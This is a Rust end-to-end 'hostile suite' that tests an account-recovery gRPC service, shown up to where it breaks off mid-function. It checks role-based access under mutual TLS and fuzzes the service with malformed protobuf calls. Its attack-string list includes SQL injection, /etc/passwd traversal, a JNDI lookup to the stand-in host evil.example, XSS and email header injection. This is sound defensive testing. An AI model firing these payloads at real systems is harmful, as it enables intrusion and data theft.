#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // tests fail loudly
//! The end-to-end hostile suite (hostile input is harmless), through the real binary: every
//! RPC × caller role under mutual TLS, 10,000 malformed calls from 64 connections, 5 MiB messages, 1,000 streams on one HTTP/2 connection, header floods, invalid
//! UTF-8 in string fields, a burst of expiring deadlines and a rapid-reset flood. After each:
//! health is SERVING, a normal recovery still works and the server's RSS stays under 128 MiB.

use std::{
    collections::{BTreeMap, BTreeSet},
    future::Future,
    net::SocketAddr,
    pin::Pin,
    sync::{
        Arc, Mutex,
        atomic::{AtomicUsize, Ordering},
    },
    task::{Context, Poll},
    time::Duration,
};

use bytes::{Buf as _, BufMut as _, Bytes};
use hyper_util::rt::TokioIo;
use prost::Message as _;
use rcgen::SanType;
use recovery_e2e::pki::{Pki, dns};
use recovery_e2e::{Mailbox, Options, Server};
use recovery_proto::v1::{
    self as api, ClientContext, recovery_service_client::RecoveryServiceClient,
};
use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
};
use tonic::{
    Code, Request, Status,
    codec::{Codec, DecodeBuf, Decoder, EncodeBuf, Encoder},
    transport::{Certificate, Channel, ClientTlsConfig, Endpoint, Identity},
};
use tonic_health::pb::{
    HealthCheckRequest, health_check_response::ServingStatus, health_client::HealthClient,
};
use tonic_types::StatusExt as _;

const KEY: &str = "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff";
const SERVICE: &str = "identity.recovery.v1.RecoveryService";
const DOMAIN: &str = "recovery.identity";
/// The service's documented decoded-message limit.
const MAX_MESSAGE: usize = 64 * 1024;
/// The service's documented HTTP/2 stream limit per connection.
const MAX_STREAMS: u32 = 128;
const RSS_LIMIT_KIB: u64 = 128 * 1024;
const AUTH_ID: &str = "spiffe://platform/ns/auth/sa/auth-service";
const OPERATOR_DNS: &str = "oncall.ops.internal";

// ---------------------------------------------------------------------------------------------
// The RPCs, and a codec that sends and receives raw bytes on any of them.

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Rpc {
    CreateRecoveryCode,
    BeginRecovery,
    VerifyEmail,
    RecoverAccount,
    GetRecoveryStatus,
    RevokeRecoveryCode,
    UpdateRecoveryEmail,
    ListAuditEvents,
    PutFamilyMember,
    RemoveFamilyMember,
    GetFamilyRecoveryStatus,
    BeginAssistedRecovery,
    VerifyAssistedRecovery,
    CompleteAssistedRecovery,
    CancelAssistedRecovery,
    StartZeroKnowledgeEnrollment,
    FinishZeroKnowledgeEnrollment,
    StartZeroKnowledgeRecovery,
    FinishZeroKnowledgeRecovery,
    ForgetAccount,
    InviteRecoveryContact,
    AcceptRecoveryContact,
    RemoveRecoveryContact,
    SetRecoveryContactThreshold,
    GetRecoveryContacts,
    BeginContactRecovery,
    ListContactRequests,
    VouchForRecovery,
    CancelContactRecovery,
    CompleteContactRecovery,
}

const RPCS: [Rpc; 30] = [
    Rpc::CreateRecoveryCode,
    Rpc::BeginRecovery,
    Rpc::VerifyEmail,
    Rpc::RecoverAccount,
    Rpc::GetRecoveryStatus,
    Rpc::RevokeRecoveryCode,
    Rpc::UpdateRecoveryEmail,
    Rpc::ListAuditEvents,
    Rpc::PutFamilyMember,
    Rpc::RemoveFamilyMember,
    Rpc::GetFamilyRecoveryStatus,
    Rpc::BeginAssistedRecovery,
    Rpc::VerifyAssistedRecovery,
    Rpc::CompleteAssistedRecovery,
    Rpc::CancelAssistedRecovery,
    Rpc::StartZeroKnowledgeEnrollment,
    Rpc::FinishZeroKnowledgeEnrollment,
    Rpc::StartZeroKnowledgeRecovery,
    Rpc::FinishZeroKnowledgeRecovery,
    Rpc::ForgetAccount,
    Rpc::InviteRecoveryContact,
    Rpc::AcceptRecoveryContact,
    Rpc::RemoveRecoveryContact,
    Rpc::SetRecoveryContactThreshold,
    Rpc::GetRecoveryContacts,
    Rpc::BeginContactRecovery,
    Rpc::ListContactRequests,
    Rpc::VouchForRecovery,
    Rpc::CancelContactRecovery,
    Rpc::CompleteContactRecovery,
];

impl Rpc {
    fn path(self) -> String {
        format!("/{SERVICE}/{self:?}")
    }

    /// Who may call it (README: roles per RPC), written out independently of the service:
    /// (auth, operator).
    fn allowed(self) -> (bool, bool) {
        match self {
            Rpc::CreateRecoveryCode
            | Rpc::BeginRecovery
            | Rpc::VerifyEmail
            | Rpc::RecoverAccount
            | Rpc::UpdateRecoveryEmail
            | Rpc::PutFamilyMember
            | Rpc::RemoveFamilyMember
            | Rpc::BeginAssistedRecovery
            | Rpc::VerifyAssistedRecovery
            | Rpc::CompleteAssistedRecovery
            | Rpc::CancelAssistedRecovery
            | Rpc::StartZeroKnowledgeEnrollment
            | Rpc::FinishZeroKnowledgeEnrollment
            | Rpc::StartZeroKnowledgeRecovery
            | Rpc::FinishZeroKnowledgeRecovery
            | Rpc::InviteRecoveryContact
            | Rpc::AcceptRecoveryContact
            | Rpc::RemoveRecoveryContact
            | Rpc::SetRecoveryContactThreshold
            | Rpc::BeginContactRecovery
            | Rpc::ListContactRequests
            | Rpc::VouchForRecovery
            | Rpc::CancelContactRecovery
            | Rpc::CompleteContactRecovery => (true, false),
            Rpc::GetRecoveryStatus
            | Rpc::RevokeRecoveryCode
            | Rpc::GetFamilyRecoveryStatus
            | Rpc::ForgetAccount
            | Rpc::GetRecoveryContacts => (true, true),
            Rpc::ListAuditEvents => (false, true),
        }
    }

    /// Decodes `body` as this RPC's request exactly as the server's prost decoder will.
    fn decode(self, body: &[u8]) -> Result<(), prost::DecodeError> {
        match self {
            Rpc::CreateRecoveryCode => api::CreateRecoveryCodeRequest::decode(body).map(drop),
            Rpc::BeginRecovery => api::BeginRecoveryRequest::decode(body).map(drop),
            Rpc::VerifyEmail => api::VerifyEmailRequest::decode(body).map(drop),
            Rpc::RecoverAccount => api::RecoverAccountRequest::decode(body).map(drop),
            Rpc::GetRecoveryStatus => api::GetRecoveryStatusRequest::decode(body).map(drop),
            Rpc::RevokeRecoveryCode => api::RevokeRecoveryCodeRequest::decode(body).map(drop),
            Rpc::UpdateRecoveryEmail => api::UpdateRecoveryEmailRequest::decode(body).map(drop),
            Rpc::ListAuditEvents => api::ListAuditEventsRequest::decode(body).map(drop),
            Rpc::PutFamilyMember => api::PutFamilyMemberRequest::decode(body).map(drop),
            Rpc::RemoveFamilyMember => api::RemoveFamilyMemberRequest::decode(body).map(drop),
            Rpc::GetFamilyRecoveryStatus => {
                api::GetFamilyRecoveryStatusRequest::decode(body).map(drop)
            }
            Rpc::BeginAssistedRecovery => api::BeginAssistedRecoveryRequest::decode(body).map(drop),
            Rpc::VerifyAssistedRecovery => {
                api::VerifyAssistedRecoveryRequest::decode(body).map(drop)
            }
            Rpc::CompleteAssistedRecovery => {
                api::CompleteAssistedRecoveryRequest::decode(body).map(drop)
            }
            Rpc::CancelAssistedRecovery => {
                api::CancelAssistedRecoveryRequest::decode(body).map(drop)
            }
            Rpc::StartZeroKnowledgeEnrollment => {
                api::StartZeroKnowledgeEnrollmentRequest::decode(body).map(drop)
            }
            Rpc::FinishZeroKnowledgeEnrollment => {
                api::FinishZeroKnowledgeEnrollmentRequest::decode(body).map(drop)
            }
            Rpc::StartZeroKnowledgeRecovery => {
                api::StartZeroKnowledgeRecoveryRequest::decode(body).map(drop)
            }
            Rpc::FinishZeroKnowledgeRecovery => {
                api::FinishZeroKnowledgeRecoveryRequest::decode(body).map(drop)
            }
            Rpc::ForgetAccount => api::ForgetAccountRequest::decode(body).map(drop),
            Rpc::InviteRecoveryContact => api::InviteRecoveryContactRequest::decode(body).map(drop),
            Rpc::AcceptRecoveryContact => api::AcceptRecoveryContactRequest::decode(body).map(drop),
            Rpc::RemoveRecoveryContact => api::RemoveRecoveryContactRequest::decode(body).map(drop),
            Rpc::SetRecoveryContactThreshold => {
                api::SetRecoveryContactThresholdRequest::decode(body).map(drop)
            }
            Rpc::GetRecoveryContacts => api::GetRecoveryContactsRequest::decode(body).map(drop),
            Rpc::BeginContactRecovery => api::BeginContactRecoveryRequest::decode(body).map(drop),
            Rpc::ListContactRequests => api::ListContactRequestsRequest::decode(body).map(drop),
            Rpc::VouchForRecovery => api::VouchForRecoveryRequest::decode(body).map(drop),
            Rpc::CancelContactRecovery => api::CancelContactRecoveryRequest::decode(body).map(drop),
            Rpc::CompleteContactRecovery => {
                api::CompleteContactRecoveryRequest::decode(body).map(drop)
            }
        }
    }
}

/// Bytes in, bytes out: lets a test put anything in the body of any RPC.
#[derive(Debug, Clone, Copy, Default)]
struct RawCodec;

impl Codec for RawCodec {
    type Encode = Vec<u8>;
    type Decode = Vec<u8>;
    type Encoder = RawCodec;
    type Decoder = RawCodec;

    fn encoder(&mut self) -> Self::Encoder {
        RawCodec
    }

    fn decoder(&mut self) -> Self::Decoder {
        RawCodec
    }
}

impl Encoder for RawCodec {
    type Item = Vec<u8>;
    type Error = Status;

    fn encode(&mut self, item: Vec<u8>, dst: &mut EncodeBuf<'_>) -> Result<(), Status> {
        dst.put_slice(&item);
        Ok(())
    }
}

impl Decoder for RawCodec {
    type Item = Vec<u8>;
    type Error = Status;

    fn decode(&mut self, src: &mut DecodeBuf<'_>) -> Result<Option<Vec<u8>>, Status> {
        let mut out = vec![0; src.remaining()];
        src.copy_to_slice(&mut out);
        Ok(Some(out))
    }
}

/// One unary call with `body` as the request message.
async fn raw_call(channel: Channel, rpc: Rpc, body: Vec<u8>) -> Result<Vec<u8>, Status> {
    let mut grpc = tonic::client::Grpc::new(channel);
    grpc.ready()
        .await
        .map_err(|e| Status::unavailable(format!("channel not ready: {e}")))?;
    let path = http::uri::PathAndQuery::try_from(rpc.path()).unwrap();
    grpc.unary(Request::new(body), path, RawCodec)
        .await
        .map(tonic::Response::into_inner)
}

fn reason(status: &Status) -> String {
    status
        .get_details_error_info()
        .map(|i| i.reason)
        .unwrap_or_default()
}

/// `field` as a protobuf length-delimited field holding `bytes`.
fn len_field(field: u32, bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(bytes.len() + 8);
    prost::encoding::encode_key(field, prost::encoding::WireType::LengthDelimited, &mut out);
    prost::encoding::encode_varint(bytes.len() as u64, &mut out);
    out.extend_from_slice(bytes);
    out
}

// ---------------------------------------------------------------------------------------------
// Starting servers, connecting, and the checks every test ends with.

async fn start(options: Options) -> Server {
    let server = Server::start_with(options.env("RECOVERY_SECRET_KEY", KEY)).unwrap();
    server.wait_serving("").await.unwrap();
    server
}

/// Counts the TCP connections a channel opens: a channel reconnects silently after a GOAWAY, so
/// "the connection was never cut" is "the channel connected exactly once".
#[derive(Debug, Clone)]
struct CountingConnector {
    addr: SocketAddr,
    connections: Arc<AtomicUsize>,
}

impl tonic::codegen::Service<http::Uri> for CountingConnector {
    type Response = TokioIo<TcpStream>;
    type Error = std::io::Error;
    type Future = Pin<Box<dyn Future<Output = Result<Self::Response, Self::Error>> + Send>>;

    fn poll_ready(&mut self, _: &mut Context<'_>) -> Poll<Result<(), Self::Error>> {
        Poll::Ready(Ok(()))
    }

    fn call(&mut self, _: http::Uri) -> Self::Future {
        self.connections.fetch_add(1, Ordering::SeqCst);
        let addr = self.addr;
        Box::pin(async move {
            let tcp = TcpStream::connect(addr).await?;
            tcp.set_nodelay(true)?;
            Ok(TokioIo::new(tcp))
        })
    }
}

/// A plaintext channel over one connection, and the count of connections it has opened.
async fn counted_channel(server: &Server) -> (Channel, Arc<AtomicUsize>) {
    let connections = Arc::new(AtomicUsize::new(0));
    let channel = Endpoint::from_shared(format!("http://{}", server.addr))
        .unwrap()
        .connect_with_connector(CountingConnector {
            addr: server.addr,
            connections: Arc::clone(&connections),
        })
        .await
        .unwrap();
    (channel, connections)
}

/// The server's resident set and its peak, in KiB.
fn memory_kib(pid: u32) -> (u64, u64) {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .and_then(|rest| rest.split_whitespace().next())
            .and_then(|kib| kib.parse::<u64>().ok())
            .unwrap_or_else(|| panic!("no {name} in /proc/{pid}/status"))
    };
    (field("VmRSS:"), field("VmHWM:"))
}

/// After the hostile part of a test: health is SERVING, a whole recovery works (create a code,
/// begin, read the emailed code, verify, recover) and the RSS is under 128 MiB.
async fn afterwards(server: &Server, channel: Channel, tag: &str) {
    let mut health = HealthClient::new(channel.clone());
    for service in ["", SERVICE] {
        let status = health
            .check(HealthCheckRequest {
                service: service.to_owned(),
            })
            .await
            .unwrap_or_else(|e| panic!("health {service:?} after {tag}: {e:?}"))
            .into_inner()
            .status();
        assert_eq!(status, ServingStatus::Serving, "health {service:?}");
    }

    let mut client = RecoveryServiceClient::new(channel);
    let account = format!("acct-after-{tag}");
    let email = format!("after-{tag}@example.com");
    let created = client
        .create_recovery_code(api::CreateRecoveryCodeRequest {
            account_id: account.clone(),
            email: email.clone(),
        })
        .await
        .unwrap_or_else(|e| panic!("CreateRecoveryCode after {tag}: {e:?}"))
        .into_inner();
    let flow = client
        .begin_recovery(api::BeginRecoveryRequest {
            email: email.clone(),
            client: Some(ClientContext {
                ip_address: "192.0.2.10".into(),
                user_agent: "hostile-suite".into(),
            }),
        })
        .await
        .unwrap_or_else(|e| panic!("BeginRecovery after {tag}: {e:?}"))
        .into_inner();
    let mail = Mailbox::new(server.dir.path().join("mail"))
        .wait_for(&email, "verification code")
        .await
        .unwrap();
    let code = mail
        .code()
        .expect("a 6-digit code in the verification mail");
    client
        .verify_email(api::VerifyEmailRequest {
            flow_id: flow.flow_id.clone(),
            email_code: code,
        })
        .await
        .unwrap_or_else(|e| panic!("VerifyEmail after {tag}: {e:?}"));
    let recovered = client
        .recover_account(api::RecoverAccountRequest {
            flow_id: flow.flow_id,
            recovery_code: created.recovery_code,
        })
        .await
        .unwrap_or_else(|e| panic!("RecoverAccount after {tag}: {e:?}"))
        .into_inner();
    assert_eq!(recovered.account_id, account);
    assert!(recovered.revoke_all_sessions);

    let (rss, peak) = memory_kib(server.pid());
    eprintln!("[{tag}] server RSS {rss} KiB (peak {peak} KiB)");
    assert!(
        rss < RSS_LIMIT_KIB,
        "server RSS after {tag} is {rss} KiB, the limit is {RSS_LIMIT_KIB} KiB"
    );
}

// ---------------------------------------------------------------------------------------------
// 1. Every RPC × role under mutual TLS.

async fn tls_channel(
    server: &Server,
    ca: &str,
    client: Option<&(String, String)>,
) -> Result<Channel, tonic::transport::Error> {
    let mut tls = ClientTlsConfig::new()
        .ca_certificate(Certificate::from_pem(ca))
        .domain_name("localhost");
    if let Some((cert, key)) = client {
        tls = tls.identity(Identity::from_pem(cert, key));
    }
    Endpoint::from_shared(format!("https://{}", server.addr))
        .unwrap()
        .connect_timeout(Duration::from_secs(5))
        .tls_config(tls)?
        .connect()
        .await
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Caller {
    Auth,
    Operator,
    /// A valid certificate of the trusted CA whose SAN is not in RECOVERY_CALLERS.
    UnknownSan,
    /// The auth service's SAN, but signed by a CA the server does not trust.
    ForeignCa,
    /// No client certificate at all.
    NoCert,
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_rpc_answers_each_caller_role_as_documented() {
    let pki = Pki::new();
    let foreign = Pki::new();
    let (server_cert, server_key) = pki.issue(vec![
        dns("localhost"),
        SanType::IpAddress("127.0.0.1".parse().unwrap()),
    ]);
    let auth = pki.issue(vec![SanType::URI(AUTH_ID.try_into().unwrap())]);
    let operator = pki.issue(vec![dns(OPERATOR_DNS)]);
    let unknown = pki.issue(vec![dns("someone.else.internal")]);
    let forged = foreign.issue(vec![SanType::URI(AUTH_ID.try_into().unwrap())]);
    let server = Server::start_with(
        Options::default()
            .env("RECOVERY_SECRET_KEY", KEY)
            .env("RECOVERY_TLS_CERT", pki.write("server.pem", &server_cert))
            .env("RECOVERY_TLS_KEY", pki.write("server.key", &server_key))
            .env("RECOVERY_TLS_CLIENT_CA", pki.write("ca.pem", &pki.ca_pem))
            .env(
                "RECOVERY_CALLERS",
                format!("{AUTH_ID}=auth,dns:{OPERATOR_DNS}=operator"),
            ),
    )
    .unwrap();

    let callers = [
        (Caller::Auth, Some(&auth)),
        (Caller::Operator, Some(&operator)),
        (Caller::UnknownSan, Some(&unknown)),
        (Caller::ForeignCa, Some(&forged)),
        (Caller::NoCert, None),
    ];
    let mut table = Vec::new();
    for (caller, identity) in callers {
        for rpc in RPCS {
            // A fresh connection per cell, so that one refused handshake cannot hide another.
            let answer = match tls_channel(&server, &pki.ca_pem, identity).await {
                Ok(channel) => raw_call(channel, rpc, Vec::new()).await,
                Err(e) => Err(Status::unavailable(format!("connect: {e:?}"))),
            };
            let (auth_ok, operator_ok) = rpc.allowed();
            let allowed = match caller {
                Caller::Auth => Some(auth_ok),
                Caller::Operator => Some(operator_ok),
                Caller::UnknownSan => Some(false),
                Caller::ForeignCa | Caller::NoCert => None,
            };
            let status = answer.expect_err("an empty request is never OK");
            let info = status.get_details_error_info();
            let cell = format!("{rpc:?} as {caller:?}: {status:?}");
            match allowed {
                // Past authorization: the empty request is judged on its content.
                Some(true) => {
                    // A bare flow id is judged by finding it (as an unknown one).
                    let want = if rpc == Rpc::CompleteContactRecovery {
                        Code::NotFound
                    } else {
                        Code::InvalidArgument
                    };
                    assert_eq!(status.code(), want, "{cell}");
                    let info = info.unwrap_or_else(|| panic!("no ErrorInfo: {cell}"));
                    assert_eq!(info.domain, DOMAIN, "{cell}");
                    assert_ne!(info.reason, "CALLER_NOT_ALLOWED", "{cell}");
                }
                Some(false) => {
                    assert_eq!(
                        (status.code(), reason(&status)),
                        (Code::PermissionDenied, "CALLER_NOT_ALLOWED".to_owned()),
                        "{cell}"
                    );
                    assert_eq!(info.unwrap().domain, DOMAIN, "{cell}");
                }
                // Refused by TLS: the service never sees the call, so no answer of its own.
                None => {
                    assert!(
                        matches!(
                            status.code(),
                            Code::Unavailable | Code::Unknown | Code::Cancelled
                        ),
                        "{cell}"
                    );
                    assert!(info.is_none(), "the service answered: {cell}");
                }
            }
            table.push(format!(
                "{caller:?}/{rpc:?}: {:?} {}",
                status.code(),
                reason(&status)
            ));
        }
    }
    eprintln!("role matrix:\n  {}", table.join("\n  "));

    // Health is for every caller with a trusted certificate, whatever its role.
    for identity in [&auth, &operator, &unknown] {
        let channel = tls_channel(&server, &pki.ca_pem, Some(identity))
            .await
            .unwrap();
        let status = HealthClient::new(channel)
            .check(HealthCheckRequest::default())
            .await
            .unwrap()
            .into_inner()
            .status();
        assert_eq!(status, ServingStatus::Serving);
    }

    let channel = tls_channel(&server, &pki.ca_pem, Some(&auth))
        .await
        .unwrap();
    afterwards(&server, channel, "roles").await;
}

// ---------------------------------------------------------------------------------------------
// 2. 10,000 malformed calls from 64 connections.

/// xorshift64*: deterministic, so a failing case can be replayed from its index.
#[derive(Debug)]
struct Rng(u64);

impl Rng {
    fn new(seed: u64) -> Self {
        let mut rng = Self(seed.wrapping_mul(0x9E37_79B9_7F4A_7C15) ^ 0xD1B5_4A32_D192_ED03);
        rng.next();
        rng
    }

    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// Strings an attacker would try. None is a valid email address, so no hostile call can
/// enrol, start a recovery or change an address.
fn hostile_strings() -> Vec<String> {
    let mut strings: Vec<String> = [
        "",
        " ",
        "\0",
        "acct\0admin",
        "\r\n",
        "ann@example.com\r\nBcc: eve@example.com",
        "ann@example.com\0",
        "ann@exam\u{0}ple.com",
        "\u{202e}moc.elpmaxe@nna",
        "acct-\u{202e}nimda",
        "' OR '1'='1",
        "victim' --",
        "'; DROP TABLE enrollments; --",
        "\" OR \"\"=\"",
        "1; SELECT * FROM audit_events",
        "victim%",
        "%",
        "_",
        "*",
        "%s%s%s%n",
        "../../../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "\u{1b}[2J\u{1b}[31mred",
        "\u{feff}\u{200b}\u{200d}",
        "😀🏳️‍🌈👨‍👩‍👧‍👦",
        "ＶＩＣＴＩＭ",
        "\u{fffd}\u{fffe}\u{ffff}",
        "0000-0000-0000-0000-0000-0000",
        "ABCD-EFGH-JKMN-PQRS-TVWX-YZ23",
        "123456",
        "12345６",
        "-1",
        "flow_' OR 1=1 --",
        "a@b",
        "@",
        "ann@@example.com",
        "ann@[127.0.0.1]",
        "\"ann\"@example.com",
        "ann @example.com",
        "<ann@example.com>",
        "ann@example.com,eve@example.com",
        "999.1.1.1",
        "127.0.0.1\0",
        "::ffff:127.0.0.1%eth0",
    ]
    .into_iter()
    .map(String::from)
    .collect();
    strings.push("9".repeat(40));
    strings.push("A".repeat(129));
    strings.push("é".repeat(300));
    strings.push("\u{202e}".repeat(1000));
    strings.push("\0".repeat(4096));
    strings.push(format!("{}@example.com", "a".repeat(300)));
    // Near the 64 KiB message limit on its own; two of them in one message go over it.
    strings.push("x".repeat(MAX_MESSAGE - 2048));
    strings
}

/// A well-formed request of `rpc` with hostile values in every field.
fn hostile_message(rpc: Rpc, rng: &mut Rng, strings: &[String]) -> Vec<u8> {
    let mut s = || rng.pick(strings).clone();
    match rpc {
        Rpc::CreateRecoveryCode => api::CreateRecoveryCodeRequest {
            account_id: s(),
            email: s(),
        }
        .encode_to_vec(),
        Rpc::BeginRecovery => api::BeginRecoveryRequest {
            email: s(),
            client: Some(ClientContext {
                ip_address: s(),
                user_agent: s(),
            }),
        }
        .encode_to_vec(),
        Rpc::VerifyEmail => api::VerifyEmailRequest {
            flow_id: s(),
            email_code: s(),
        }
        .encode_to_vec(),
        Rpc::RecoverAccount => api::RecoverAccountRequest {
            flow_id: s(),
            recovery_code: s(),
        }
        .encode_to_vec(),
        Rpc::GetRecoveryStatus => api::GetRecoveryStatusRequest { account_id: s() }.encode_to_vec(),
        Rpc::RevokeRecoveryCode => api::RevokeRecoveryCodeRequest {
            account_id: s(),
            reason: s(),
        }
        .encode_to_vec(),
        Rpc::UpdateRecoveryEmail => api::UpdateRecoveryEmailRequest {
            account_id: s(),
            email: s(),
        }
        .encode_to_vec(),
        Rpc::ListAuditEvents => {
            let account_id = s();
            let page_token = s();
            let page_size = *rng.pick(&[0, 1, -1, 500, 501, i32::MAX, i32::MIN]);
            api::ListAuditEventsRequest {
                account_id,
                page_size,
                page_token,
            }
            .encode_to_vec()
        }
        Rpc::PutFamilyMember => {
            let (family_id, account_id, email) = (s(), s(), s());
            let role = *rng.pick(&[0, 1, 2, 3, -1, i32::MAX]);
            api::PutFamilyMemberRequest {
                family_id,
                account_id,
                role,
                email,
            }
            .encode_to_vec()
        }
        Rpc::RemoveFamilyMember => api::RemoveFamilyMemberRequest {
            family_id: s(),
            account_id: s(),
        }
        .encode_to_vec(),
        Rpc::GetFamilyRecoveryStatus => {
            api::GetFamilyRecoveryStatusRequest { family_id: s() }.encode_to_vec()
        }
        Rpc::BeginAssistedRecovery => api::BeginAssistedRecoveryRequest {
            family_id: s(),
            organizer_account_id: s(),
            member_account_id: s(),
            client: Some(ClientContext {
                ip_address: s(),
                user_agent: s(),
            }),
        }
        .encode_to_vec(),
        Rpc::VerifyAssistedRecovery => api::VerifyAssistedRecoveryRequest {
            assisted_flow_id: s(),
            email_code: s(),
        }
        .encode_to_vec(),
        Rpc::CompleteAssistedRecovery => api::CompleteAssistedRecoveryRequest {
            assisted_flow_id: s(),
            organizer_account_id: s(),
        }
        .encode_to_vec(),
        Rpc::CancelAssistedRecovery => api::CancelAssistedRecoveryRequest {
            assisted_flow_id: s(),
            account_id: s(),
        }
        .encode_to_vec(),
        Rpc::StartZeroKnowledgeEnrollment => api::StartZeroKnowledgeEnrollmentRequest {
            account_id: s(),
            registration_request: s().into_bytes(),
        }
        .encode_to_vec(),
        Rpc::FinishZeroKnowledgeEnrollment => api::FinishZeroKnowledgeEnrollmentRequest {
            enrollment_id: s(),
            account_id: s(),
            email: s(),
            registration_record: s().into_bytes(),
            sealed_keyset: s().into_bytes(),
        }
        .encode_to_vec(),
        Rpc::StartZeroKnowledgeRecovery => api::StartZeroKnowledgeRecoveryRequest {
            flow_id: s(),
            credential_request: s().into_bytes(),
        }
        .encode_to_vec(),
        Rpc::FinishZeroKnowledgeRecovery => api::FinishZeroKnowledgeRecoveryRequest {
            flow_id: s(),
            credential_finalization: s().into_bytes(),
        }
        .encode_to_vec(),
        Rpc::ForgetAccount => api::ForgetAccountRequest {
            account_id: s(),
            reason: s(),
        }
        .encode_to_vec(),
        Rpc::InviteRecoveryContact => api::InviteRecoveryContactRequest {
            account_id: s(),
            contact_account_id: s(),
            contact_email: s(),
        }
        .encode_to_vec(),
        Rpc::AcceptRecoveryContact => api::AcceptRecoveryContactRequest {
            account_id: s(),
            contact_account_id: s(),
        }
        .encode_to_vec(),
        Rpc::RemoveRecoveryContact => api::RemoveRecoveryContactRequest {
            account_id: s(),
            contact_account_id: s(),
        }
        .encode_to_vec(),
        Rpc::SetRecoveryContactThreshold => {
            let account_id = s();
            let threshold = *rng.pick(&[0, 1, 10, 11, u32::MAX]);
            api::SetRecoveryContactThresholdRequest {
                account_id,
                threshold,
            }
            .encode_to_vec()
        }
        Rpc::GetRecoveryContacts => {
            api::GetRecoveryContactsRequest { account_id: s() }.encode_to_vec()
        }
        Rpc::BeginContactRecovery => api::BeginContactRecoveryRequest {
            email: s(),
            client: Some(ClientContext {
                ip_address: s(),
                user_agent: s(),
            }),
        }
        .encode_to_vec(),
        Rpc::ListContactRequests => api::ListContactRequestsRequest {
            contact_account_id: s(),
        }
        .encode_to_vec(),
        Rpc::VouchForRecovery => api::VouchForRecoveryRequest {
            contact_flow_id: s(),
            contact_account_id: s(),
            confirmation_code: s(),
        }
        .encode_to_vec(),
        Rpc::CancelContactRecovery => api::CancelContactRecoveryRequest {
            contact_flow_id: s(),
            account_id: s(),
        }
        .encode_to_vec(),
        Rpc::CompleteContactRecovery => api::CompleteContactRecoveryRequest {
            contact_flow_id: s(),
        }
        .encode_to_vec(),
    }
}

/// Protobuf-shaped noise: valid tags of random fields and wire types, random payloads, lengths
/// that sometimes lie.
fn random_fields(rng: &mut Rng, strings: &[String]) -> Vec<u8> {
    let mut out = Vec::new();
    for _ in 0..=rng.below(6) {
        let field = if rng.below(8) == 0 {
            (1 << 29) - 1
        } else {
            1 + rng.below(6) as u32
        };
        let wire = rng.below(6) as u64;
        prost::encoding::encode_varint((u64::from(field) << 3) | wire, &mut out);
        match wire {
            0 => prost::encoding::encode_varint(rng.next(), &mut out),
            1 => out.extend(rng.bytes(8)),
            2 => {
                let payload = match rng.below(3) {
                    0 => {
                        let len = rng.below(48);
                        rng.bytes(len)
                    }
                    1 => rng.pick(strings).as_bytes().to_vec(),
                    _ => random_fields(rng, strings),
                };
                let claimed = if rng.below(10) == 0 {
                    payload.len() + 1 + rng.below(1 << 20)
                } else {
                    payload.len()
                };
                prost::encoding::encode_varint(claimed as u64, &mut out);
                out.extend(payload);
            }
            5 => out.extend(rng.bytes(4)),
            // Groups (deprecated) and the undefined wire types 6 and 7.
            _ => {
                let len = rng.below(4);
                out.extend(rng.bytes(len));
            }
        }
    }
    out
}

fn malformed_case(i: u64, strings: &[String]) -> (Rpc, Vec<u8>) {
    let mut rng = Rng::new(i);
    let rpc = *rng.pick(&RPCS);
    let body = match rng.below(10) {
        0 | 1 => {
            let len = if rng.below(4) == 0 {
                rng.below(4096)
            } else {
                rng.below(24)
            };
            rng.bytes(len)
        }
        2..=4 => random_fields(&mut rng, strings),
        _ => hostile_message(rpc, &mut rng, strings),
    };
    (rpc, body)
}

/// What a call's answer may be, decided from the bytes alone:
/// - over 64 KiB: tonic's own OUT_OF_RANGE / RESOURCE_EXHAUSTED;
/// - bytes the request type cannot decode: INVALID_ARGUMENT "failed to decode Protobuf
///   message" (tonic's INTERNAL, re-labelled by the service; the transport's answer, so no
///   ErrorInfo);
/// - a request the service parses: an error the service decided (ErrorInfo in its domain,
///   never INTERNAL or UNKNOWN), or OK only from a read-only RPC that reveals nothing (no
///   enrolment, no audit event: hostile strings never name the enrolled victim).
fn judge(rpc: Rpc, body: &[u8], answer: &Result<Vec<u8>, Status>) -> Result<String, String> {
    if body.len() > MAX_MESSAGE {
        return match answer {
            Err(s) if matches!(s.code(), Code::OutOfRange | Code::ResourceExhausted) => {
                Ok(format!("{:?} (over the limit)", s.code()))
            }
            other => Err(format!("over the limit: {other:?}")),
        };
    }
    if rpc.decode(body).is_err() {
        return match answer {
            Err(s)
                if s.code() == Code::InvalidArgument
                    && s.message().starts_with("failed to decode Protobuf message")
                    && s.get_details_error_info().is_none() =>
            {
                Ok("InvalidArgument (undecodable)".into())
            }
            other => Err(format!("undecodable body: {other:?}")),
        };
    }
    match answer {
        Ok(bytes) => match rpc {
            Rpc::GetRecoveryStatus => {
                let response = api::GetRecoveryStatusResponse::decode(&bytes[..])
                    .map_err(|e| format!("bad response: {e}"))?;
                if response.enrolled || !response.code_id.is_empty() {
                    return Err(format!(
                        "a hostile account id found an enrolment: {response:?}"
                    ));
                }
                Ok("OK (not enrolled)".into())
            }
            Rpc::ListAuditEvents => {
                let response = api::ListAuditEventsResponse::decode(&bytes[..])
                    .map_err(|e| format!("bad response: {e}"))?;
                if !response.events.is_empty() {
                    return Err(format!("a hostile account id listed events: {response:?}"));
                }
                Ok("OK (no events)".into())
            }
            Rpc::GetFamilyRecoveryStatus => {
